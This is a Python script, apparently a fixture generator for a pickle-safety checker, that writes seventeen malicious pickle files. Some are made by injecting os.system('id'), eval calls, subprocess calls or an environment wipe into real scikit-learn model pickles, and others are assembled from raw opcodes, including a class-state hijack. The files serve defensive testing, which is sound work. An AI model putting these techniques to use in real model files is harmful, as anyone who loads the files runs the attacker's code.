"""Writes attack_*.pkl with public tools that make pickles which attack whoever loads them.

    $(tools/python/venv hostile-attacks) make_attacks.py

fickling puts calls into a good model file, pickora compiles a program to opcodes, pickleassem assembles them. Nothing
here is run: the bytes are written, never loaded. NAME.txt beside each file is the message that reading it must give.
"""
import pathlib

from fickling.fickle import Pickled
from pickleassem import PickleAssembler
from pickora import Compiler

HERE = pathlib.Path(__file__).parent
MODELS = {name: (HERE.parents[1] / "golden/sklearn" / name / "model.pkl").read_bytes()
          for name in ("gbc_protocol2-new", "lr_binary-new")}


def injected(model, change):
    pickled = Pickled.load(MODELS[model])
    change(pickled)
    return pickled.dumps()


def compiled(source, **options):
    return Compiler(**options).compile(source)


def assembled(protocol, build):
    assembler = PickleAssembler(proto=protocol)
    build(assembler)
    return assembler.assemble()


def stack_global(a):  # a module's name taken from the memo, so that it stands nowhere beside the function's
    a.push_binunicode("os")
    a.memo_memoize()
    a.pop()
    a.memo_binget(0)
    a.push_binunicode("system")
    a.build_stack_global()
    a.push_binunicode("id")
    a.build_tuple1()
    a.build_reduce()


def inst(a):
    a.push_mark()
    a.push_unicode("id")
    a.build_inst("os", "system")


def obj(a):
    a.push_mark()
    a.push_global("os", "system")
    a.push_binunicode("id")
    a.build_obj()


def newobj_ex(a):
    a.push_global("subprocess", "Popen")
    a.push_binunicode("id")
    a.build_tuple1()
    a.push_empty_dict()
    a.build_newobj_ex()


def build_of_class(a):  # a class whose state is replaced, so that the next instance calls os.system
    a.push_global("sklearn.linear_model._logistic", "LogisticRegression")
    a.push_mark()
    a.push_binunicode("__setstate__")
    a.push_global("os", "system")
    a.build_dict()
    a.build_build()
    a.push_binunicode("id")
    a.build_build()


ATTACKS = {
    "exec_first": injected("lr_binary-new", lambda p: p.insert_python_exec("import os; os.system('id')")),
    "exec_last": injected("lr_binary-new", lambda p: p.insert_python_exec("import os; os.system('id')", run_first=False)),
    "exec_for_the_model": injected("lr_binary-new", lambda p: p.insert_python_exec("1", use_output_as_unpickle_result=True)),
    "eval_first": injected("gbc_protocol2-new", lambda p: p.insert_python_eval("__import__('os').system('id')")),
    "system_last": injected("gbc_protocol2-new", lambda p: p.insert_python("id", module="os", attr="system", run_first=False)),
    "run_by_test_code": injected("lr_binary-new", lambda p: p.insert_python("1", module="numpy.testing._private.utils", attr="runstring")),
    "on_the_model": injected("lr_binary-new", lambda p: p.insert_function_call_on_unpickled_object(
        "def f(model):\n    import os\n    os.system('id')\n    return model")),
    "compiled_call": compiled("from os import system\nsystem('id')"),
    "compiled_builtins": compiled("__import__('os').system('id')", extended=True),
    "compiled_attributes": compiled("import os\nos.environ.clear()", extended=True),
    "compiled_lambda": compiled("(lambda x: x + 1)(41)", extended=True),
    "compiled_while": compiled("x = [1, 2]\nx[0] = GLOBAL('subprocess', 'check_output')(['id'])"),
    "assembled_from_memo": assembled(4, stack_global),
    "assembled_inst": assembled(0, inst),
    "assembled_obj": assembled(1, obj),
    "assembled_newobj_ex": assembled(4, newobj_ex),
    "assembled_class_state": assembled(2, build_of_class),
}

for name, data in ATTACKS.items():
    (HERE / f"attack_{name}.pkl").write_bytes(data)
